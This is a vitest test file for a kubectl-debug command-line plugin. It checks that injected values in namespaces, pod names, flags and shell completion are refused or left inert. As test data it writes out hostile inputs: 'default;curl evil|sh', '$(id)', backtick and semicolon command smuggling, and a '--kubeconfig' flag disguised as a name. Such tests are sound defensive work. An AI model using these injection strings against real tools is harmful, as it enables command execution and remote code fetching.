import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { aPod } from '../builders/a-pod.ts';
import { aKubeconfig } from '../builders/a-kubeconfig.ts';
import { aFolder } from '../builders/a-folder.ts';
import { aLocalServer, json, type Responder } from '../servers/local-server.ts';
import { finish, startCommand } from '../drivers/run-command.ts';

const folder = await aFolder();
const EVIL = 'default;curl evil|sh';
const CALL = 'nobody $(id)';
const none: Responder = (_request, response) =>
  json(response, { kind: 'Status', code: 404, reason: 'NotFound', message: 'not found', details: {} }, 404);

interface Hostile {
  readonly argv: readonly string[];
  readonly respond?: Responder;
  readonly context?: object;
}

async function call({ argv, respond = none, context = {} }: Hostile) {
  const server = await aLocalServer(respond);
  const kubeconfig = await folder.write(
    'kubeconfig',
    aKubeconfig({ server: server.url }, { token: 't' }, { ...context }),
  );
  const result = await finish(startCommand(argv, { kubeconfig }));
  return { ...result, requests: server.requests.length };
}

/** A manifest of a pod with these fields. */
const manifest = (name: string, metadata: object, containers: readonly object[] = [{ name: 'app' }]) =>
  folder.write(name, { apiVersion: 'v1', kind: 'Pod', metadata, spec: { containers } });

describe('a name that no server can have', async () => {
  const namespace = await manifest('namespace.json', { name: 'web-1', namespace: EVIL });
  const name = await manifest('name.json', { name: CALL });
  const flag = await manifest('flag.json', { name: '--kubeconfig=/tmp/x' });
  const container = await manifest('container.json', { name: 'web-1' }, [{ name: 'app;id' }]);
  const DEBUG = ['--image=busybox', '--attach=false'];

  it.each([
    { where: 'the namespace of a manifest', argv: [...DEBUG, '-f', namespace] },
    { where: 'the name of a manifest', argv: [...DEBUG, '-f', name] },
    { where: 'a name that reads as a flag', argv: [...DEBUG, '-f', flag] },
    { where: 'a container of a manifest', argv: [...DEBUG, '-f', container] },
    { where: 'a manifest to be copied', argv: [...DEBUG, '-f', name, '--copy-to=copy'] },
    { where: 'a manifest that is listed', argv: ['pods', '-f', namespace] },
    { where: '-n', argv: ['web-1', ...DEBUG, '-n', EVIL] },
    { where: '-n of attach', argv: ['attach', 'web-1', '-n', EVIL] },
    { where: '-n of stop', argv: ['stop', 'web-1', '-n', EVIL] },
    { where: '-n of check', argv: ['check', '-n', EVIL] },
    { where: '-n of audit', argv: ['audit', 'web-1', '--yes', '-n', EVIL, '--', 'id'] },
    { where: 'one namespace of many', argv: ['audit', '-A', '--yes', '-n', `shop,${EVIL}`, '--', 'id'] },
    { where: 'the namespace of the context', argv: ['web-1', ...DEBUG], context: { namespace: EVIL } },
    { where: 'POD', argv: ['web-1;id', ...DEBUG] },
    { where: 'a POD that is too long', argv: ['a'.repeat(254), ...DEBUG] },
    { where: 'NAMESPACE/POD', argv: ['shop;id/web-1', ...DEBUG] },
    { where: 'POD of pods', argv: ['pods', '$(id)'] },
    { where: '-c', argv: ['web-1', ...DEBUG, '-c', '$(id)'] },
    { where: '-c of attach', argv: ['attach', 'web-1', '-c', '$(id)'] },
    { where: '-c of stop', argv: ['stop', 'web-1', '-c', '$(id)'] },
    { where: '--target', argv: ['web-1', ...DEBUG, '--target=$(id)'] },
    { where: '--target of audit', argv: ['audit', 'web-1', '--yes', '--target=$(id)', '--', 'id'] },
    { where: '--copy-to', argv: ['web-1', ...DEBUG, '--copy-to=Copy'] },
  ])('is refused before anything is asked: $where', async ({ argv, context = {} }) => {
    const { exitCode, stdout, stderr, requests } = await call({ argv, context });
    expect({ stdout, requests }).toEqual({ stdout: '', requests: 0 });
    expect(exitCode).not.toBe(0);
    expect(stderr).toMatch(/^error: .* \[usage\]\nhint: .*\n$/);
  });

  it('is asked for by pods, as by kubectl get', async () => {
    const respond: Responder = (_request, response) => json(response, { kind: 'PodList', items: [] });
    const { exitCode, stderr, requests } = await call({ argv: ['pods', '-n', 'Shop a'], respond });
    expect({ exitCode, requests }).toEqual({ exitCode: 0, requests: 1 });
    expect(stderr).toBe('No resources found in Shop a namespace.\n');
  });
});

/** A server that calls itself and its objects as an attacker likes. */
const hostilePod = (name: string): object => {
  const pod = aPod({ name, namespace: EVIL, apps: [{ name: 'app' }] });
  return { ...pod, metadata: { ...pod.metadata, namespace: EVIL, name } };
};

describe('a name of a hostile server', () => {
  it.each([
    { argv: ['attach', 'web-1'] },
    { argv: ['attach', 'web-1', '-c', 'app'] },
    { argv: ['stop', 'web-1'] },
    { argv: ['web-1', '--image=busybox', '--target=nobody', '--attach=false'] },
  ])('is one word in a hint: $argv', async ({ argv }) => {
    for (const name of ['--kubeconfig=/tmp/x', CALL]) {
      const { stderr } = await call({
        argv,
        respond: (_request, response) => json(response, hostilePod(name)),
      });
      const hint = /^hint: (.*)$/m.exec(stderr)?.[1] ?? '';
      expect(stderr).toMatch(/^error: /);
      const bare = hint.replaceAll(/'[^']*'/g, '');
      expect(bare).not.toMatch(/[$]|curl|\s--kubeconfig/);
    }
  });

  const WORDS = [
    '-web',
    '--server=http://evil',
    'a b',
    '$(id)',
    '`id`',
    'a\nb',
    'a\tb',
    'a;b',
    'web​-1',
    'ㅤ',
    '',
  ];

  it.each(['attach', 'check', 'stop'])(
    'is not offered as a word where it is no name: %s',
    async (command) => {
      const items = [...WORDS, 'web-1'].map((name) => aPod({ name, ephemerals: [{}] }));
      const respond: Responder = (_request, response) =>
        json(response, { kind: 'PodList', metadata: {}, items });
      const { stdout, stderr } = await call({ argv: ['completion', '--', command, ''], respond });
      expect({ stdout, stderr }).toEqual({ stdout: 'web-1\n:4\n', stderr: '' });
    },
  );

  it('is not offered as a word where a kubeconfig holds it', async () => {
    const file = aKubeconfig({ server: 'http://127.0.0.1:1' });
    const contexts = [...WORDS, 'main', 'Übung@home:1/x'].map((name) => ({
      name,
      context: { cluster: 'c1' },
    }));
    const kubeconfig = await folder.write('contexts', { ...file, contexts });
    const { stdout } = await finish(
      startCommand(['completion', '--', 'pods', '--context', ''], { kubeconfig }),
    );
    expect(stdout).toBe('main\nÜbung@home:1/x\n:4\n');
  });
});

/** Asks the script of a shell what it makes of words that the program would never print. */
const SHELLS = [
  {
    shell: '/bin/bash',
    ask: 'COMP_LINE="kubectl-debug attach " COMP_POINT=21 COMP_WORDBREAKS=" =:"; _kubectl_debug; printf "%s\\n" "${COMPREPLY[@]}"',
  },
  { shell: '/usr/bin/fish', ask: 'complete -C "kubectl-debug attach "' },
].filter(({ shell }) => existsSync(shell));

it.each(SHELLS)('a script of $shell runs nothing of a word', async ({ shell, ask }) => {
  const { stdout: script } = await finish(
    startCommand(['completion', shell.split('/').at(-1) ?? ''], { kubeconfig: '/nobody' }),
  );
  const mark = `${folder.path}/ran`;
  const program = await folder.write(
    'kubectl-debug',
    `#!/bin/sh\nprintf '%s\\n' '$(touch ${mark})' '\`touch ${mark}\`' 'x;touch ${mark}' 'a[$(touch ${mark})]' :4\n`,
  );
  const file = await folder.write('script', `${script}\n${ask}\n`);
  const stdout = execFileSync(shell, [file], {
    encoding: 'utf8',
    env: {
      PATH: `${program.slice(0, program.lastIndexOf('/'))}:${process.env['PATH'] ?? ''}`,
      HOME: folder.path,
    },
  });
  expect(stdout).toContain('touch');
  expect(existsSync(mark)).toBe(false);
});
